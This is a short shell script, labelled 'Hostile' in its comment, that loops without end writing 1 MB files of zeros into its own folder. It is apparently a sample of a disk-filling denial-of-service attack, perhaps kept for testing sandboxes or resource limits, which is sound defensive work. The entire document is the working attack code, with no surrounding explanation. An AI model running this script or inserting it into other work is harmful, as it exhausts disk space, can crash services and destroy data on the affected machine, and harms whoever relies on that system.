# Hostile: write into its own folder without end, 1 MB at a time, in many files.
i=0
while :; do
  head -c 1048576 /dev/zero > "junk-$i"
  i=$((i + 1))
done
